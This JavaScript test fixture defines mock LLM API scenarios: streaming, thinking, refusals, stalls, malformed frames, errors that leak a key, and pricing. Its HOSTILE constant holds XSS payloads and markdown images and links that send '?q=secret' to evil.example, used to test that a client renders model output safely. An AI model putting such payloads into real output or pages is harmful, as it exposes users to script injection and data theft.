// @ts-check
/**
 * What the stand-in for an API does, by the name of the model that is asked: independent of the wire protocol.
 * In what it says of an error, `KEY` becomes the key, and `PART` all but the end of it: providers repeat both.
 *
 * @typedef {{ input: number, cached: number, written?: number, output: number, thinking: number }} Usage all of the
 *   prompt, and what of it was read from the cache or written to it; the answer, and the thinking before it
 * @typedef {object} Scenario
 * @property {readonly string[]} [thinking] pieces that come before the answer
 * @property {readonly string[]} [text] pieces of the answer
 * @property {boolean} [tool] the model asks for a tool in place of an answer
 * @property {'stop' | 'length' | 'refusal'} [end]
 * @property {Usage | null} [usage] null: the API does not tell
 * @property {number} [firstMs] before the headers are followed by anything
 * @property {number} [rate] pieces per second, by the clock
 * @property {number} [stallAfter] pieces after which nothing comes any more, and the connection stays
 * @property {number} [cutAfter] pieces after which the connection is destroyed
 * @property {number} [endAfter] pieces after which the body ends as if it were complete
 * @property {number} [breakAfter] pieces after which a line comes that is no JSON
 * @property {number} [errorAfter] pieces after which an error comes inside the stream
 * @property {number} [hugeAfter] pieces after which one line of 6 MiB comes that never ends
 * @property {'split' | 'crlf' | 'comments'} [framing]
 * @property {{ status: number, code: string, message: string, retryAfter?: string, exposed?: boolean, page?: boolean }} [error]
 *   `page`: told by a web page
 * @property {boolean} [html] a web page in place of an answer
 * @property {boolean} [unverified] refuses to summarise its thinking, as OpenAI does for organisations it has not verified
 */

/** @type {Usage} */
const usage = { input: 12, cached: 4, output: 5, thinking: 0 };
const answer = ['The', ' answer', ' is', ' 42', '.'];
/** Five seconds at 500 a second: long enough that a late last packet of a busy machine stays far below 2 %. */
const many = Array.from({ length: 2500 }, (_, index) => `t${index} `);

/** An answer that would run, load, send or pretend something, wherever it is not taken for mere text. */
export const HOSTILE = [
  '<img src=x onerror=alert(1)> <script>alert(2)</script> <svg onload=alert(3)></svg>',
  '<iframe srcdoc="<script>alert(4)</script>"></iframe> <a href="javascript:alert(5)">five</a>',
  '[six](javascript:alert(6)) [seven](JaVaScRiPt&colon;alert(7)) <javascript:alert(8)>',
  '[nine](data:text/html,<script>alert(9)</script>) ![ten](https://evil.example/10?q=secret)',
  '![eleven][there] <meta http-equiv=refresh content="0;url=https://evil.example/12">',
  '<form action=https://evil.example/13><input autofocus onfocus=alert(14)></form>',
  '<style>@import "https://evil.example/15"</style> <link rel=stylesheet href=https://evil.example/16>',
  '\u202Eright to left\u202C \u001B[31mred\u001B[0m \u200Bhidden',
  '[there]: https://evil.example/11?q=secret',
].join('\n\n');

/** @param {number} count */
const counted = (count) => ({ input: 9, cached: 0, output: count, thinking: 0 });

/** @type {Readonly<Record<string, Scenario>>} */
export const scenarios = {
  normal: { text: answer, usage },
  slower: { text: answer, usage, rate: 20 },
  thinking: {
    thinking: ['Six', ' times', ' seven', '…'],
    text: answer,
    usage: { input: 20, cached: 0, output: 5, thinking: 7 },
  },
  /** Thinks, is paid for it, and does not show it. */
  'thinks-unseen': { text: answer, usage: { input: 20, cached: 0, output: 5, thinking: 7 } },
  /** By this name Anthropic's package knows a model that can be held to a schema. */
  'claude-json': { text: ['{"answer":', ' "forty-two",', ' "right": true}'], usage },
  'tool-call': { tool: true, usage },
  refusal: { text: ['I', ' cannot'], end: 'refusal', usage },
  length: { text: answer, end: 'length', usage },
  'slow-start': { text: answer, usage, firstMs: 1500 },
  stall: { text: answer, usage, stallAfter: 3 },
  cut: { text: answer, usage, cutAfter: 3 },
  'clean-cut': { text: answer, usage, endAfter: 3 },
  malformed: { text: answer, usage, breakAfter: 3 },
  'error-inside': { text: answer, usage, errorAfter: 3 },
  'error-first': { text: answer, usage, errorAfter: 0 },
  'huge-line': { text: answer, hugeAfter: 3 },
  'split-utf8': { text: ['naïve ', '日本語', ' 🦊', ' ok'], usage, framing: 'split' },
  crlf: { text: answer, usage, framing: 'crlf' },
  comments: { text: answer, usage, framing: 'comments' },
  'missing-usage': { text: answer, usage: null },
  /** Split at every point. */
  hostile: { text: [...HOSTILE], usage, rate: 200 },
  /** Every kind of token, and enough of each that it costs something. */
  priced: {
    thinking: ['Six'],
    text: answer,
    usage: { input: 100_000, cached: 40_000, written: 10_000, output: 2000, thinking: 500 },
  },
  /** By this name the list of prices knows a model whose long prompts cost more, and this is one. */
  'gpt-6.1-sol': { text: answer, usage: { input: 300_000, cached: 100_000, output: 2000, thinking: 1000 } },
  'rate-500': { text: many, usage: counted(many.length), rate: 500 },
  forever: { text: Array.from({ length: 100_000 }, () => 'on '), usage, rate: 50 },
  html: { html: true },
  unauthorized: {
    error: { status: 401, code: 'invalid_api_key', message: 'Incorrect API key provided: KEY' },
  },
  forbidden: { error: { status: 403, code: 'permission_denied', message: 'KEY may not use this model' } },
  unknown: { error: { status: 404, code: 'model_not_found', message: 'no such model' } },
  'rate-limit': {
    error: {
      status: 429,
      code: 'rate_limit_exceeded',
      message: 'slow down',
      retryAfter: '7',
      exposed: true,
    },
  },
  'rate-limit-hidden': {
    error: { status: 429, code: 'rate_limit_exceeded', message: 'slow down', retryAfter: '7' },
  },
  'rate-limit-unsaid': { error: { status: 429, code: 'rate_limit_exceeded', message: 'slow down' } },
  quota: { error: { status: 429, code: 'insufficient_quota', message: 'add credit' } },
  'too-long': {
    error: { status: 400, code: 'context_length_exceeded', message: 'the prompt is too long: 9000 > 8192' },
  },
  /** Reads text alone, and says so in the ways that servers have for that. */
  'no-images': {
    error: {
      status: 400,
      code: 'invalid_request_error',
      message: 'Invalid content type. image_url is only supported by certain models.',
    },
  },
  'no-images-route': {
    error: { status: 404, code: '', message: 'No endpoints found that support image input' },
  },
  'bad-parameter': {
    error: { status: 400, code: 'unsupported_value', message: 'temperature is not supported' },
  },
  broken: { error: { status: 500, code: 'server_error', message: 'it broke, with Bearer KEY' } },
  'broken-part': { error: { status: 500, code: 'server_error', message: 'nobody knows the key PART…' } },
  overloaded: { error: { status: 529, code: 'overloaded_error', message: 'too busy for KEY' } },
  gateway: { error: { status: 502, code: '', message: 'KEY', page: true } },
};
